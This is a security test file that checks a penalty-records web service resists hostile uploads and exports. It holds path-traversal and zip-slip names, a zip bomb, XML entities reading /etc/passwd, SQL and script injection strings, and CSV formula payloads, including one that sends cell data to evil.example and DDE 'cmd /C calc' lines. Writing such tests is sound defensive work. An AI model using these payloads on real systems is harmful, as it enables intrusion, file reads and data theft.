/**
 * Files as intruders make them: names that lead out of the folder, outside and inside an archive; archives that unfold without end; cells that a
 * spreadsheet would run as formulas, in whatever table leaves the house; columns named like parts of the language itself.
 */
import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { after, test } from "node:test";
import { workbookOf, zipOf } from "../../src/sources/files-for-tests.ts";
import { type Answer, openAgency } from "../journeys/agency.ts";
import { Browser } from "../journeys/browser.ts";
import { codeOf, penaltyFile } from "../journeys/bureau.ts";
import { allRounder } from "../journeys/people.ts";

const agency = await openAgency();
after(() => agency.close());

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  '";=1+1;"',
  " =1+1",
];

test("a name that leads out of the folder is only a name", async () => {
  const before = readdirSync(tmpdir()).filter((name) => name.includes("escaped"));
  for (const name of [
    "../../../../tmp/escaped.csv",
    "..\\..\\escaped.csv",
    "/etc/escaped.csv",
    "a\u0000b.csv",
    "....//escaped.csv",
    "C:\\escaped.csv",
    ".",
    "con",
  ]) {
    const { status, body, text } = await agency.upload(Buffer.from("a,b\r\n1,2\r\n"), name);
    assert.ok(status === 201 || status === 400, `${name}: ${text}`);
    if (status === 201)
      assert.ok(
        ["/", "\\", "\0"].every((sign) => !body.fileName.includes(sign)),
        name,
      );
  }
  assert.deepEqual(
    readdirSync(tmpdir()).filter((name) => name.includes("escaped")),
    before,
  );
  const stolen = await agency.get(
    `/api/v1/files/${encodeURIComponent("../../../../etc/passwd")}/inspection?fileName=a.csv`,
  );
  assert.equal(stolen.status, 400);
});

test("entries of an archive that lead out of it are written nowhere, and a sheet outside it is not read", async () => {
  const names = ["../../../../tmp/escaped.txt", "/etc/escaped", "..\\escaped", "xl/../../../escaped"];
  const archive = zipOf([...names, "[Content_Types].xml"].map((name) => ({ name, content: "<Types/>" })));
  const answer = await inspected(archive, "a.xlsx");
  assert.equal(answer.status, 422, answer.text);
  const target = "../../../../../../etc/passwd";
  const relations = `<Relationships><Relationship Id="rId1" Target="${target}"/></Relationships>`;
  const outside = zipOf([
    { name: "[Content_Types].xml", content: "<Types/>" },
    {
      name: "xl/workbook.xml",
      content: '<workbook xmlns:r="r"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    },
    { name: "xl/_rels/workbook.xml.rels", content: relations },
  ]);
  const read = await inspected(outside, "b.xlsx");
  assert.equal(read.status, 422, read.text);
  assert.doesNotMatch(read.text, /root:/);
  assert.deepEqual(
    readdirSync(tmpdir()).filter((name) => name.includes("escaped")),
    [],
  );
});

test("an archive that unfolds without end is refused before it fills the memory", async () => {
  const bomb = workbookOf(" ".repeat(96 * 1024 ** 2));
  assert.ok(bomb.length < 2 * 1024 ** 2, "it is small as it comes");
  const before = process.memoryUsage().rss;
  const answer = await inspected(bomb, "bomb.xlsx");
  assert.deepEqual([answer.status, answer.body.code], [422, "zip-bomb"], answer.text);
  assert.ok(process.memoryUsage().rss - before < 128 * 1024 ** 2);
});

test("entities that unfold without end, or name files of the machine, are not unfolded", async () => {
  const entities = '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">';
  const texts = `]><!DOCTYPE x [${entities}]><si><t>&b;&f;</t></si>`;
  const row =
    '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>&b;&f;</t></is></c></row>';
  const answer = await inspected(workbookOf(row, { texts }), "entities.xlsx");
  assert.doesNotMatch(answer.text, /root:|hahaha/);
  assert.ok(answer.status < 500, answer.text);
});

test("columns named like parts of the language are columns", async () => {
  const header =
    "__proto__,constructor,toString,统一社会信用代码,行政相对人名称,行政处罚决定书文号,处罚决定日期,处罚机关";
  const row = `polluted,polluted,polluted,${codeOf(8)},示例庚有限公司,示市监罚〔2026〕8号,2026-05-06,示例局`;
  const imported = await agency.bringIn(Buffer.from(`${header}\r\n${row}\r\n`), "名称.csv");
  assert.equal(imported.state, "done", JSON.stringify(imported));
  assert.equal(Object.hasOwn(Object.prototype, "polluted"), false);
  assert.equal(({} as Record<string, unknown>).constructor, Object);
});

test("no table that leaves the house holds a cell that a spreadsheet would run", async () => {
  const names = formulas.map((formula, at) => ({
    code: codeOf(100 + at),
    name: formula,
    number: formula,
    on: "2026-05-06",
    act: formula,
  }));
  const held = formulas.map((formula, at) => ({
    code: `${codeOf(200 + at).slice(0, 9)}OOOO`,
    name: formula,
    number: formula,
    on: formula,
  }));
  const imported = await agency.bringIn(penaltyFile([...names, ...held]), "公式.csv");
  assert.ok(imported.quarantined >= held.length, JSON.stringify(imported));
  await agency.people.found({ id: "the-bureau", kind: "authority", name: "示例局", regions: [""] });
  const { body: document } = await agency.get("/api/v1/openapi.json");
  const exports = Object.entries(document.paths).filter(([, methods]) =>
    JSON.stringify(methods).includes('"text/csv"'),
  );
  const tables = exports.filter(([path]) => path !== TRIED_BY_A_PLATFORM);
  assert.deepEqual(
    exports.map(([path]) => path).sort(),
    [...Object.keys(asked(imported.id, "")), TRIED_BY_A_PLATFORM].sort(),
    "every export is tried",
  );
  let cells = 0;
  for (const [path] of tables)
    for (const { code } of path.includes("{code}") ? names : names.slice(0, 1)) {
      const { status, text } = await agency.get(
        asked(imported.id, code)[path] ?? "",
        { "x-purpose": "test" },
        allRounder,
      );
      if (status === 404) continue;
      assert.equal(status, 200, text);
      for (const cell of cellsOf(text)) {
        assert.doesNotMatch(cell, /^[\s\uFEFF]*[=+\-@＝＋－＠\t\r]/u, `${path}: ${cell}`);
        cells += 1;
      }
      if (path !== OF_FIGURES)
        assert.match(text, /HYPERLINK|cmd|SUM|1\+1/, "the text itself is there, for people to read");
    }
  console.log(`${cells} cells of ${tables.length} exports`);
  assert.ok(cells > 100);
});

/** A platform's own table: `tests/journeys/shops.test.ts` enters a formula and looks for it there. */
const TRIED_BY_A_PLATFORM = "/api/v1/shop-checks/report";
/** Counts, and the names of what is counted: no text that anybody handed in. */
const OF_FIGURES = "/api/v1/statistics/file";

/** The address of each export. */
function asked(importId: string, code: string): Readonly<Record<string, string>> {
  return {
    "/api/v1/imports/{id}/quarantine.csv": `/api/v1/imports/${importId}/quarantine.csv`,
    "/api/v1/operators/{code}/file": `/api/v1/operators/${code}/file?format=csv&recipient=the-bureau`,
    [OF_FIGURES]: `${OF_FIGURES}?format=csv`,
  };
}

async function inspected(content: Uint8Array, fileName: string): Promise<Answer> {
  const { body } = await agency.upload(content, fileName);
  return agency.get(`/api/v1/files/${body.hash}/inspection?fileName=${fileName}`);
}

function* cellsOf(csv: string): Generator<string> {
  for (const [, quoted, plain] of csv.matchAll(/(?:^|,|\r\n|\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) {
    const cell = (quoted ?? plain ?? "").replaceAll('""', '"');
    if (cell !== "") yield cell;
  }
}

test("what a form says beside its file is a text like any other", async () => {
  const browser = new Browser(agency);
  await browser.post("/register", {
    login: "form@shop.example",
    name: "某人",
    password: "春风又绿江南岸，明月何时照我还",
  });
  const pdf = Buffer.from("%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n");
  for (const text of [
    "a\u0000b",
    "../../etc",
    "'; DROP TABLE xinheng.fact; --",
    "<script>x</script>",
    "a\r\nb: c",
    "长".repeat(5_000),
    "",
  ])
    for (const fields of [
      { kind: text, id: "1" },
      { kind: "representation", id: text },
    ]) {
      const { status, text: said } = await browser.upload("/api/v1/evidence", fields, pdf, "授权书.pdf");
      assert.ok(status < 500, `${JSON.stringify(fields).slice(0, 80)}: ${said}`);
    }
  for (const name of ["a\u0000b.pdf", "../../../etc/cron.d/x.pdf", "x".repeat(3_000), "a.pdf\u202efdp.exe", ""]) {
    const { status, text: said } = await browser.upload(
      "/api/v1/evidence",
      { kind: "representation", id: "1" },
      pdf,
      name,
    );
    assert.ok(status < 500, `${JSON.stringify(name).slice(0, 80)}: ${said}`);
  }
});

test("evidence is what its content is: a page, a program or a picture with a program in it is not taken", async () => {
  const browser = new Browser(agency);
  await browser.post("/sign-in", { login: "form@shop.example", password: "春风又绿江南岸，明月何时照我还" });
  const contents = [
    "<!DOCTYPE html><script>x</script>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
    "MZ\u0090\u0000\u0003",
    "\u007fELF\u0002",
    "#!/bin/sh\nx",
    "",
  ];
  for (const content of contents) {
    const fields = { kind: "representation", id: "1" };
    const { status, body } = await browser.upload(
      "/api/v1/evidence",
      fields,
      Buffer.from(content, "latin1"),
      "授权书.pdf",
    );
    const shown = status === 201 ? body.mediaType : "";
    assert.ok(status >= 400 || shown.startsWith("text/plain"), `${JSON.stringify(content)}: ${status} ${shown}`);
  }
});
